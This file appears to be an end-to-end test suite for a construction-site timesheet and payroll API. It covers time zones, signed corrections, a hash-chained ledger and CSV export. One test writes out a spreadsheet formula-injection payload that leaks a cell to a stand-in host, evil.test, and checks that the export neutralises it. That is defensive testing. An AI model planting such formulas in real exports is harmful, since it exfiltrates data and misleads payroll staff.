import { parse } from 'csv-parse/sync';
import { ManualClock } from '@app/common';
import { http, storeSet, startTestApp, TestApp } from './support/test-app';
import {
  createSite,
  crewPhone,
  phoneAt,
  punch,
  signedBy,
  sync,
  ThekedarDevice,
  thekedarWithDevice,
} from './support/timesheet-client';
import { canonicalJson, Phone, sha256Hex } from './support/worker-client';

describe('timesheets, corrections and payroll export (e2e, controllable clock)', () => {
  let t: TestApp;
  const clock = new ManualClock('2026-03-01T00:00:00.000Z');
  let kolkata: string;
  let newYork: string;
  let night: Phone; // Kolkata, night shifts
  let dst: Phone; // New York, across the DST change
  let thekedar: ThekedarDevice;
  let crew: Phone; // onboarded by the thekedar, Kolkata
  let stranger: Phone; // admin-created, Kolkata

  const get = (path: string, key = t.keys.admin) => http(t.baseUrl, 'GET', path, { key });
  const days = async (siteId: string, query: string, key = t.keys.admin) => {
    const res = await get(`/api/v5/sites/${siteId}/timesheets?${query}`, key);
    expect(res.status).toBe(200);
    return res.body;
  };
  const correct = (
    siteId: string,
    body: unknown,
    headers: Record<string, string> = { 'x-api-key': t.keys.admin },
  ) => http(t.baseUrl, 'POST', `/api/v5/sites/${siteId}/corrections`, { body, headers });
  const signedNow = (value: unknown) => signedBy(thekedar, value, clock.now().toISOString());

  beforeAll(async () => {
    t = await startTestApp(
      { SYNC_MAX_OFFLINE_AGE_HOURS: String(24 * 30), TRUST_AUTO_BLOCK_FLOOR: '0' },
      { clock },
    );
    kolkata = (await createSite(t.baseUrl, t.keys.admin, 'Asia/Kolkata')).siteId;
    newYork = (await createSite(t.baseUrl, t.keys.admin, 'America/New_York')).siteId;
    night = await phoneAt(t.baseUrl, t.keys.admin, kolkata);
    dst = await phoneAt(t.baseUrl, t.keys.admin, newYork);
    stranger = await phoneAt(t.baseUrl, t.keys.admin, kolkata);
    thekedar = await thekedarWithDevice(t.baseUrl, t.keys.admin, [kolkata]);
    crew = await crewPhone(t.baseUrl, thekedar, kolkata, clock.now().toISOString());
    clock.set('2026-03-10T06:00:00.000Z');
  });
  afterAll(async () => t.close());

  it('should refuse a site zone that is not an IANA name, and default to SITE_DEFAULT_TIME_ZONE', async () => {
    const bad = await http(t.baseUrl, 'POST', '/api/v5/sites', {
      key: t.keys.admin,
      body: { name: 'X', geo: { lat: 1, lng: 1 }, radiusM: 100, timeZone: 'Mars/Olympus' },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.errors).toEqual([expect.objectContaining({ field: 'timeZone' })]);
    expect((await createSite(t.baseUrl, t.keys.admin)).timeZone).toBe('Asia/Kolkata');
  });

  it('should refuse a null time zone (it answered 500) and a blank name, each saying what is wrong', async () => {
    const create = (body: Record<string, unknown>) =>
      http(t.baseUrl, 'POST', '/api/v5/sites', {
        key: t.keys.admin,
        body: { name: 'Null zone', geo: { lat: 1, lng: 1 }, radiusM: 100, ...body },
      });
    const nullZone = await create({ timeZone: null });
    expect([nullZone.status, nullZone.body.code, nullZone.body.errors]).toEqual([
      400,
      'validation_failed',
      [{ field: 'timeZone', message: 'must not be null' }],
    ]);
    const blank = await create({ name: '   ' });
    expect([blank.status, blank.body.errors]).toEqual([
      400,
      [{ field: 'name', message: 'must not be blank (white space only is blank)' }],
    ]);
    const long = await create({ name: 'x'.repeat(201) });
    expect(long.body.errors).toEqual([
      { field: 'name', message: 'must be at most 200 characters' },
    ]);
  });

  it("should store a site's zone in its canonical spelling and refuse legacy and fixed-offset ids", async () => {
    const site = (timeZone: string) =>
      http(t.baseUrl, 'POST', '/api/v5/sites', {
        key: t.keys.admin,
        body: { name: 'Zone ' + timeZone, geo: { lat: 1, lng: 1 }, radiusM: 100, timeZone },
      });
    for (const [typed, stored] of [
      ['utc', 'UTC'],
      ['Etc/UTC', 'UTC'],
      ['UTC', 'UTC'],
      ['US/Eastern', 'America/New_York'],
      ['america/new_york', 'America/New_York'],
      ['Asia/Kolkata', 'Asia/Kolkata'],
      ['asia/kolkata', 'Asia/Kolkata'],
      ['Europe/Kyiv', 'Europe/Kyiv'],
      // ICU lists these under their old names; the stored one is the current IANA name
      ['Asia/Calcutta', 'Asia/Kolkata'],
      ['Asia/Saigon', 'Asia/Ho_Chi_Minh'],
      ['Europe/Kiev', 'Europe/Kyiv'],
      ['Asia/Katmandu', 'Asia/Kathmandu'],
      ['Asia/Rangoon', 'Asia/Yangon'],
      ['America/Buenos_Aires', 'America/Argentina/Buenos_Aires'],
      ['America/Godthab', 'America/Nuuk'],
      ['US/Pacific', 'America/Los_Angeles'],
    ]) {
      const created = await site(typed);
      expect([typed, created.status, created.body.timeZone]).toEqual([typed, 201, stored]);
      const read = await http(t.baseUrl, 'GET', `/api/v5/sites/${created.body.siteId}`, {
        key: t.keys.admin,
      });
      expect(read.body.timeZone).toBe(stored);
    }
    for (const legacy of [
      'EST',
      'mst',
      'HST',
      'EST5EDT',
      'PST8PDT',
      'CET',
      'Etc/GMT+5',
      'Etc/GMT-14',
    ]) {
      const refused = await site(legacy);
      expect([legacy, refused.status, refused.body.code]).toEqual([
        legacy,
        400,
        'legacy_time_zone',
      ]);
      expect(refused.body.message).toContain('such as America/New_York');
      expect(refused.body.errors).toEqual([expect.objectContaining({ field: 'timeZone' })]);
    }
  });

  it("should read a site stored under a zone's old name by its current IANA name", async () => {
    // a site created before the old names were canonicalised, as its row holds it
    const created = await createSite(t.baseUrl, t.keys.admin, 'Europe/Kyiv');
    await storeSet(t, 'sites', created.siteId, {
      sqlite: { time_zone: 'Europe/Kiev' },
      mongo: { timeZone: 'Europe/Kiev' },
    });
    const read = await http(t.baseUrl, 'GET', `/api/v5/sites/${created.siteId}`, {
      key: t.keys.admin,
    });
    expect([read.status, read.body.timeZone]).toEqual([200, 'Europe/Kyiv']);
  });

  it('should give a night shift to the local day it started, whatever the order and repetition of syncs', async () => {
    // 22:00 IST on 2 March → 06:00 IST on 3 March; the check-out syncs first, then both again
    const checkIn = punch(night, 'check_in', '2026-03-02T16:30:00Z');
    const checkOut = punch(night, 'check_out', '2026-03-03T00:30:00Z');
    expect((await sync(t.baseUrl, night, [checkOut])).accepted).toBe(1);
    const early = await days(kolkata, `from=2026-03-02&to=2026-03-03&workerId=${night.workerId}`);
    expect(early.days.map((d: any) => [d.date, d.flags.map((f: any) => f.type)])).toEqual([
      ['2026-03-03', ['check_out_without_check_in']],
    ]);
    expect((await sync(t.baseUrl, night, [checkIn])).accepted).toBe(1);
    const again = await sync(t.baseUrl, night, [checkIn, checkOut]);
    expect(again.duplicates).toBe(2);
    const body = await days(kolkata, `from=2026-03-02&to=2026-03-03&workerId=${night.workerId}`);
    expect(body.timeZone).toBe('Asia/Kolkata');
    expect(body.days).toEqual([
      expect.objectContaining({
        workerId: night.workerId,
        date: '2026-03-02',
        firstIn: '2026-03-02T22:00:00+05:30',
        lastOut: '2026-03-03T06:00:00+05:30',
        hours: 8,
        flags: [],
        flagged: false,
        corrected: false,
      }),
    ]);
    expect(body.days[0].shifts[0].in.at).toBe('2026-03-02T16:30:00.000Z');
  });

  it('should count the real hours of a shift across a daylight-saving change', async () => {
    // New York springs forward at 02:00 on 8 March: 22:00 EST → 06:00 EDT is 7 hours
    await sync(t.baseUrl, dst, [
      punch(dst, 'check_in', '2026-03-08T03:00:00Z'),
      punch(dst, 'check_out', '2026-03-08T10:00:00Z'),
      punch(dst, 'check_in', '2026-03-08T12:00:00Z'), // 08:00 EDT on 8 March
      punch(dst, 'check_out', '2026-03-08T20:00:00Z'),
    ]);
    const body = await days(newYork, 'from=2026-03-07&to=2026-03-08');
    expect(body.days.map((d: any) => [d.date, d.hours, d.firstIn, d.lastOut])).toEqual([
      ['2026-03-07', 7, '2026-03-07T22:00:00-05:00', '2026-03-08T06:00:00-04:00'],
      ['2026-03-08', 8, '2026-03-08T08:00:00-04:00', '2026-03-08T16:00:00-04:00'],
    ]);
  });

  describe('corrections', () => {
    let inSeq: number;
    let strayOut: number;
    let addSeq: number;

    beforeAll(async () => {
      // the crew member forgot to check out on 4 March and double-punched out on 5 March
      const res = await sync(t.baseUrl, crew, [
        punch(crew, 'check_in', '2026-03-04T03:30:00Z'),
        punch(crew, 'check_in', '2026-03-05T03:30:00Z'),
        punch(crew, 'check_out', '2026-03-05T12:30:00Z'),
        punch(crew, 'check_out', '2026-03-05T12:31:00Z'),
      ]);
      inSeq = res.results[0].seq!;
      strayOut = res.results[3].seq!;
    });

    it('should let the thekedar add the missed check-out, signed, for its own crew', async () => {
      const before = await days(kolkata, `from=2026-03-04&to=2026-03-04&workerId=${crew.workerId}`);
      expect(before.days[0].flags).toEqual([{ type: 'open_shift', seq: inSeq }]);
      const body = {
        action: 'add_check_out',
        target: { siteId: kolkata, seq: inSeq },
        at: '2026-03-04T12:30:00.000Z',
        reason: 'Left at 18:00, phone battery died (site register)',
      };
      const res = await correct(kolkata, body, signedNow(body));
      expect(res.status).toBe(201);
      addSeq = res.body.seq;
      const after = await days(kolkata, `from=2026-03-04&to=2026-03-04&workerId=${crew.workerId}`);
      expect(after.days[0]).toMatchObject({
        hours: 9,
        lastOut: '2026-03-04T18:00:00+05:30',
        flags: [{ type: 'corrected', seq: addSeq }],
        flagged: false,
        corrected: true,
        seqs: [inSeq, addSeq],
      });
    });

    it('should correct a correction, and undo one by voiding it', async () => {
      const move = await correct(kolkata, {
        action: 'move',
        target: { siteId: kolkata, seq: addSeq },
        at: '2026-03-04T11:30:00.000Z',
        reason: 'Register says 17:00',
      });
      expect(move.status).toBe(201);
      expect(
        (await days(kolkata, `from=2026-03-04&to=2026-03-04&workerId=${crew.workerId}`)).days[0]
          .hours,
      ).toBe(8);
      const undo = await correct(kolkata, {
        action: 'void',
        target: { siteId: kolkata, seq: move.body.seq },
        reason: 'Wrong register page',
      });
      expect(undo.status).toBe(201);
      const day = (await days(kolkata, `from=2026-03-04&to=2026-03-04&workerId=${crew.workerId}`))
        .days[0];
      expect(day.hours).toBe(9);
      expect(day.seqs).toEqual([inSeq, addSeq, move.body.seq, undo.body.seq]);
      const stray = await correct(kolkata, {
        action: 'void',
        target: { siteId: kolkata, seq: strayOut },
        reason: 'Double tap',
      });
      expect(stray.status).toBe(201);
      const fifth = (await days(kolkata, `from=2026-03-05&to=2026-03-05&workerId=${crew.workerId}`))
        .days[0];
      // a day fixed by voiding its stray punch is not flagged any more (the void is its record)
      expect(fifth).toMatchObject({ hours: 9, flagged: false, corrected: true });
      expect(fifth.flags).toEqual([
        { type: 'voided_punch', seq: strayOut },
        { type: 'corrected', seq: stray.body.seq },
      ]);
      const twice = await correct(kolkata, {
        action: 'void',
        target: { siteId: kolkata, seq: strayOut },
        reason: 'again',
      });
      expect(twice.status).toBe(409);
      expect(twice.body.code).toBe('already_voided');
    });

    it('should answer a retried correctionId as a duplicate and refuse one reused for other content', async () => {
      const body = {
        correctionId: '4b1d7f5e-8c1a-4c55-9d1e-2f7a0c3b9e11',
        action: 'move',
        target: { siteId: kolkata, seq: inSeq },
        at: '2026-03-04T03:35:00.000Z',
        reason: 'Gate log',
      };
      const first = await correct(kolkata, body);
      const retry = await correct(kolkata, body);
      expect([first.status, retry.status]).toEqual([201, 200]);
      expect(retry.body).toEqual({ ...first.body, status: 'duplicate' });
      const other = await correct(kolkata, { ...body, reason: 'Something else' });
      expect(other.status).toBe(409);
      expect(other.body.code).toBe('correction_id_conflict');
    });

    it("should refuse a thekedar's correction of a worker it did not onboard, a stale or replayed signature, and an auditor key", async () => {
      const [p] = (
        await sync(t.baseUrl, stranger, [punch(stranger, 'check_in', '2026-03-06T03:30:00Z')])
      ).results;
      const body = { action: 'void', target: { siteId: kolkata, seq: p.seq }, reason: 'Not mine' };
      const headers = signedNow(body);
      const refused = await correct(kolkata, body, headers);
      expect(refused.status).toBe(403);
      expect(refused.body.code).toBe('worker_not_in_crew');
      const replay = await correct(kolkata, body, headers);
      expect(replay.status).toBe(403);
      expect(replay.body.code).toBe('replayed_request');
      const forged = await correct(kolkata, body, {
        ...signedNow(body),
        'x-signature': 'ab'.repeat(32),
      });
      expect(forged.status).toBe(401);
      expect(forged.body.code).toBe('invalid_signature');
      const stale = await correct(
        kolkata,
        body,
        signedBy(thekedar, body, '2026-03-01T00:00:00.000Z'),
      );
      expect(stale.status).toBe(401);
      expect(stale.body.code).toBe('stale_request');
      const auditor = await correct(kolkata, body, { 'x-api-key': t.keys.auditor });
      expect(auditor.status).toBe(403);
      const none = await http(t.baseUrl, 'POST', `/api/v5/sites/${kolkata}/corrections`, { body });
      expect(none.status).toBe(401);
    });

    it("should refuse a correction of another site's entry, and bad targets", async () => {
      const cross = await correct(newYork, {
        action: 'void',
        target: { siteId: kolkata, seq: inSeq },
        reason: 'x-site',
      });
      expect(cross.status).toBe(422);
      expect(cross.body.code).toBe('cross_site_correction');
      const missing = await correct(kolkata, {
        action: 'void',
        target: { siteId: kolkata, seq: 99_999 },
        reason: 'nope',
      });
      expect(missing.status).toBe(404);
      const noAt = await correct(kolkata, {
        action: 'add_check_out',
        target: { siteId: kolkata, seq: inSeq },
        reason: 'x y z',
      });
      expect(noAt.body.code).toBe('time_required');
      const onOut = await correct(kolkata, {
        action: 'add_check_out',
        target: { siteId: kolkata, seq: strayOut },
        at: '2026-03-05T13:00:00.000Z',
        reason: 'x y z',
      });
      expect(onOut.body.code).toBe('not_a_check_in');
      const far = await correct(kolkata, {
        action: 'add_check_out',
        target: { siteId: kolkata, seq: inSeq },
        at: '2026-03-06T12:00:00.000Z',
        reason: 'x y z',
      });
      // this check-in has an added check-out already (the range: timesheets-corrections)
      expect([far.status, far.body.code]).toEqual([409, 'already_checked_out']);
      const junk = await correct(kolkata, {
        action: 'erase',
        target: { siteId: kolkata, seq: 0 },
        reason: '',
      });
      expect(junk.status).toBe(400);
    });

    it('should keep every original punch in the ledger, and the chain verifying by the documented formula', async () => {
      const res = await fetch(`${t.baseUrl}/api/v5/ledger/${kolkata}/export`, {
        headers: { 'x-api-key': t.keys.auditor },
      });
      const lines = (await res.text())
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l));
      let prev = '0'.repeat(64);
      for (const line of lines) {
        const { recordHash, ...hashed } = line;
        expect(line.prevHash).toBe(prev);
        expect(sha256Hex(canonicalJson(hashed))).toBe(recordHash);
        prev = recordHash;
      }
      const corrections = lines.filter((l) => l.data.kind === 'timesheet_correction');
      expect(corrections.length).toBeGreaterThanOrEqual(5);
      const added = lines.find((l) => l.seq === addSeq);
      expect(added.data).toMatchObject({
        action: 'add_check_out',
        workerId: crew.workerId,
        target: {
          siteId: kolkata,
          seq: inSeq,
          recordHash: lines.find((l) => l.seq === inSeq).recordHash,
        },
        by: { kind: 'thekedar', thekedarId: thekedar.thekedarId, deviceId: thekedar.deviceId },
      });
      expect(lines.find((l) => l.seq === strayOut).data.type).toBe('check_out');
      const verify = await get(`/api/v5/ledger/${kolkata}/verify`);
      expect(verify.body).toMatchObject({ ok: true, length: lines.length, headHash: prev });
    });
  });

  describe('reading', () => {
    it('should show a thekedar its crew only, on signed reads, and refuse other workers', async () => {
      const path = `/api/v5/sites/${kolkata}/timesheets?from=2026-03-01&to=2026-03-10`;
      const mine = await http(t.baseUrl, 'GET', path, {
        headers: signedNow({ method: 'GET', path }),
      });
      expect(mine.status).toBe(200);
      expect(new Set(mine.body.days.map((d: any) => d.workerId))).toEqual(new Set([crew.workerId]));
      const other = `${path}&workerId=${night.workerId}`;
      const refused = await http(t.baseUrl, 'GET', other, {
        headers: signedNow({ method: 'GET', path: other }),
      });
      expect(refused.status).toBe(403);
      expect(refused.body.code).toBe('worker_not_in_crew');
      // a signature is bound to the path it was made for
      const moved = await http(t.baseUrl, 'GET', other, {
        headers: signedNow({ method: 'GET', path }),
      });
      expect(moved.status).toBe(401);
      const admin = await days(kolkata, 'from=2026-03-01&to=2026-03-10');
      expect(new Set(admin.days.map((d: any) => d.workerId))).toEqual(
        new Set([crew.workerId, night.workerId, stranger.workerId]),
      );
      expect((await get(path, t.keys.auditor)).status).toBe(200);
      expect((await get(path, t.keys.mobile)).status).toBe(403);
      expect((await http(t.baseUrl, 'GET', path)).status).toBe(401);
    });

    it('should page by (worker, day) with a cursor and bound the period', async () => {
      const all = await days(kolkata, 'from=2026-03-01&to=2026-03-10');
      const seen: string[] = [];
      let cursor: string | undefined;
      do {
        const page = await days(
          kolkata,
          `from=2026-03-01&to=2026-03-10&limit=2${cursor ? `&cursor=${cursor}` : ''}`,
        );
        expect(page.days.length).toBeLessThanOrEqual(2);
        seen.push(...page.days.map((d: any) => `${d.workerId}/${d.date}`));
        cursor = page.nextCursor;
      } while (cursor);
      expect(seen).toEqual(all.days.map((d: any) => `${d.workerId}/${d.date}`));
      const long = await get(`/api/v5/sites/${kolkata}/timesheets?from=2026-01-01&to=2026-03-04`);
      expect(long.status).toBe(400);
      expect(long.body.code).toBe('period_too_long');
      const ok62 = await get(`/api/v5/sites/${kolkata}/timesheets?from=2026-01-02&to=2026-03-04`);
      expect(ok62.status).toBe(200);
      const backwards = await get(
        `/api/v5/sites/${kolkata}/timesheets?from=2026-03-04&to=2026-03-01`,
      );
      expect(backwards.body.code).toBe('invalid_period');
      const junk = await get(`/api/v5/sites/${kolkata}/timesheets?from=yesterday&to=2026-03-01`);
      expect(junk.status).toBe(400);
      const cursorJunk = await get(
        `/api/v5/sites/${kolkata}/timesheets?from=2026-03-01&to=2026-03-02&cursor=xyz`,
      );
      expect(cursorJunk.body.code).toBe('invalid_cursor');
      const unknown = await get(
        '/api/v5/sites/0123456789abcdef01234567/timesheets?from=2026-03-01&to=2026-03-02',
      );
      expect(unknown.status).toBe(404);
    });

    it('should export the same worker-days as RFC 4180 CSV that an independent parser reads, with fraud flags', async () => {
      // a punch far outside the geofence: accepted, flagged by the fraud rules
      const [far] = (
        await sync(t.baseUrl, night, [
          punch(night, 'check_in', '2026-03-07T03:30:00Z', {
            lat: 19.076,
            lng: 72.8777,
            accuracyM: 5,
          }),
        ])
      ).results;
      const res = await fetch(
        `${t.baseUrl}/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10`,
        {
          headers: { 'x-api-key': t.keys.auditor },
        },
      );
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toContain('text/csv');
      const text = await res.text();
      expect(text.endsWith('\r\n')).toBe(true);
      const rows = parse<Record<string, string>>(text, { columns: true, skip_empty_lines: true });
      const json = await days(kolkata, 'from=2026-03-01&to=2026-03-10&limit=1000');
      expect(rows.map((r) => `${r.worker_id}/${r.date}`)).toEqual(
        json.days.map((d: any) => `${d.workerId}/${d.date}`),
      );
      expect(Object.keys(rows[0])).toEqual([
        'worker_id',
        'worker_name',
        'worker_phone',
        'date',
        'first_in',
        'last_out',
        'hours',
        'flags',
        'corrected',
        'ledger_seqs',
      ]);
      const farRow = rows.find((r) => r.worker_id === night.workerId && r.date === '2026-03-07')!;
      expect(farRow.flags).toContain(`fraud:outside_geofence@${far.seq}`);
      expect(farRow.flags).toContain(`open_shift@${far.seq}`);
      const nightRow = rows.find((r) => r.worker_id === night.workerId && r.date === '2026-03-02')!;
      expect(nightRow).toMatchObject({
        // the payroll needs who to pay: the name and the phone (E.164 as it is: a + and digits
        // is nothing a spreadsheet could run, so no single quote)
        worker_name: 'Sita Devi',
        worker_phone: (await get(`/api/v5/workers/${night.workerId}`)).body.phone,
        first_in: '2026-03-02T22:00:00+05:30',
        last_out: '2026-03-03T06:00:00+05:30',
        hours: '8.00',
        flags: '',
        corrected: 'false',
      });
      const crewRow = rows.find((r) => r.worker_id === crew.workerId && r.date === '2026-03-04')!;
      expect(crewRow.corrected).toBe('true');
      expect(crewRow.ledger_seqs.split(' ').length).toBeGreaterThanOrEqual(4);
      expect(crewRow.worker_name).toBe('Crew member');
      expect(text).not.toMatch(/PLT_/);

      // a name is user input: a formula, a comma and quotes stay one inert cell (a line break
      // is refused in a name since; the CSV writer's own spec covers one stored before)
      const hostile = '=HYPERLINK("http://evil.test/?"&A1,"Pay here"), @SUM(1)';
      const rename = (name: string) =>
        http(t.baseUrl, 'PATCH', `/api/v5/workers/${night.workerId}`, {
          key: t.keys.admin,
          body: { name },
        });
      expect((await rename(hostile)).status).toBe(200);
      try {
        const again = await fetch(
          `${t.baseUrl}/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-02&to=2026-03-02&workerId=${night.workerId}`,
          { headers: { 'x-api-key': t.keys.auditor } },
        );
        const raw = await again.text();
        const [row] = parse<Record<string, string>>(raw, { columns: true });
        expect(row.worker_name).toBe(`'${hostile}`);
        expect(raw).toContain(`,"'=HYPERLINK(""http://evil.test/?""&A1,""Pay here""), @SUM(1)",`);
      } finally {
        expect((await rename('Sita Devi')).status).toBe(200);
      }

      // for Excel on Windows: a byte order mark first, when asked (and only then)
      const withBom = await fetch(
        `${t.baseUrl}/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10&bom=true`,
        { headers: { 'x-api-key': t.keys.auditor } },
      );
      const bytes = Buffer.from(await withBom.arrayBuffer());
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(bytes.subarray(3).toString('utf8')).toBe(text);
      expect(text.charCodeAt(0)).toBe('w'.charCodeAt(0));
      const badBom = await get(
        `/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10&bom=yes`,
        t.keys.auditor,
      );
      expect([badBom.status, badBom.body.code]).toEqual([400, 'validation_failed']);

      const signedPath = `/api/v5/sites/${kolkata}/timesheets.csv?from=2026-03-01&to=2026-03-10`;
      const thekedarCsv = await http(t.baseUrl, 'GET', signedPath, {
        headers: signedNow({ method: 'GET', path: signedPath }),
      });
      const theirs = parse<Record<string, string>>(thekedarCsv.body as string, { columns: true });
      expect(new Set(theirs.map((r) => r.worker_id))).toEqual(new Set([crew.workerId]));
    });

    it('should sum a payroll per worker: who (name, phone), days present, hours, flagged days', async () => {
      const res = await get(
        `/api/v5/sites/${kolkata}/payroll?from=2026-03-01&to=2026-03-10`,
        t.keys.auditor,
      );
      expect(res.status).toBe(200);
      const byWorker = new Map(res.body.workers.map((w: any) => [w.workerId, w]));
      // who to pay, as the worker's record says now (as the CSV's worker_name, worker_phone)
      const record = async (id: string) => (await get(`/api/v5/workers/${id}`)).body;
      expect(byWorker.get(crew.workerId)).toEqual({
        workerId: crew.workerId,
        name: 'Crew member',
        phone: (await record(crew.workerId)).phone,
        daysPresent: 2,
        // 4 March 03:35 (moved) → 12:30 (added), 5 March 03:30 → 12:30 (stray check-out voided)
        hours: 17.92,
        workedSeconds: 8 * 3600 + 55 * 60 + 9 * 3600,
        // 5 March was fixed by a void: corrected, not flagged
        flaggedDays: 0,
        correctedDays: 2,
        refusedPunches: 0,
      });
      expect(byWorker.get(night.workerId)).toMatchObject({
        name: 'Sita Devi',
        phone: (await record(night.workerId)).phone,
        daysPresent: 2,
        workedSeconds: 8 * 3600,
        flaggedDays: 1,
      });
    });
  });
});
